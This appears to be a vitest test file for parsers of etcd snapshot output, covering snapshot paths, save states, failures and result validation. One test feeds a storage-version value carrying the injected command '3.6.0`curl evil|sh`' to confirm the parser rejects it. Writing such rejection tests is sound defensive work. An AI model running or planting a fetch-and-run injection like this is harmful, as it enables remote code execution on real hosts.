import { describe, expect, test } from "vitest";
import { parseSaveResult, parseSaveState, snapshotFile } from "../../../src/pod/save.ts";

const answer = (revision: number): string =>
  `{"header":{"cluster_id":14841639068965178418,"member_id":10276657743932975437,"revision":${String(revision)},"raft_term":2}}`;

test("each attempt of a save has a file of its own beside the data directory", () => {
  expect(snapshotFile("0123456789abcdef0123456789abcdef", 2)).toBe(
    "/var/lib/hypershift-etcd-backup-0123456789abcdef0123456789abcdef-2.db",
  );
});

describe("the state of a save", () => {
  test("opened, with both revisions", () => {
    expect(parseSaveState(`opened ${answer(12)}\nfirst ${answer(10)}\n`)).toEqual({
      state: "opened",
      revisionBefore: 10,
      revisionOpened: 12,
    });
  });

  test("failed, with the reason that etcdctl gives", () => {
    const line = '{"level":"warn","msg":"failed","error":"write /var/lib/x.part: no space left on device"}';
    expect(parseSaveState(`failed 5 ${line}\n`)).toEqual({
      state: "failed",
      exitCode: 5,
      reason: "write /var/lib/x.part: no space left on device",
    });
  });

  test("not started, since the volume filled up meanwhile", () => {
    expect(parseSaveState("full 1024\n")).toEqual({ state: "full", freeBytes: 1024 * 1024 });
  });

  test.each(["", "opened \nfirst ", "opened {}\nfirst {}", "started already"])("%j says nothing", (output) => {
    expect(parseSaveState(output)).toBeUndefined();
  });
});

describe("the result of a save", () => {
  const saved = `rc 0\nlog \nsize 20512\ntrailer ${"ab".repeat(32)}\nstatus {"hash":255,"revision":7,"totalKey":9,"totalSize":20480}\n`;

  test("a snapshot with its revision and hash", () => {
    expect(parseSaveResult(saved)).toEqual({
      state: "saved",
      snapshot: {
        sizeBytes: 20512,
        trailer: "ab".repeat(32),
        revision: 7,
        hash: "000000ff",
        totalKeys: 9,
        storageVersion: undefined,
      },
    });
  });

  test("the help of etcdctl 3.6, which ends with 0, is no status", () => {
    expect(
      parseSaveResult(saved.replace(/status .*/, "status NAME: snapshot - Manages etcd node snapshots")),
    ).toBeUndefined();
  });

  test.each(["3.6.0`curl evil|sh`", "3.6.0\\n", "latest"])(
    "a storage version that is %j is no status, since no record may have it",
    (version) => {
      expect(parseSaveResult(saved.replace('"totalSize"', `"version":"${version}","totalSize"`))).toBeUndefined();
    },
  );

  test("a size that no snapshot has is refused", () => {
    expect(parseSaveResult(saved.replace("20512", "20480"))).toBeUndefined();
  });

  test("absent, or running with the space that is left", () => {
    expect(parseSaveResult("absent\n")).toEqual({ state: "absent" });
    expect(parseSaveResult("running 2048 4096\n")).toEqual({
      state: "running",
      freeBytes: 2 * 1024 * 1024,
      savedBytes: 4096,
    });
  });
});
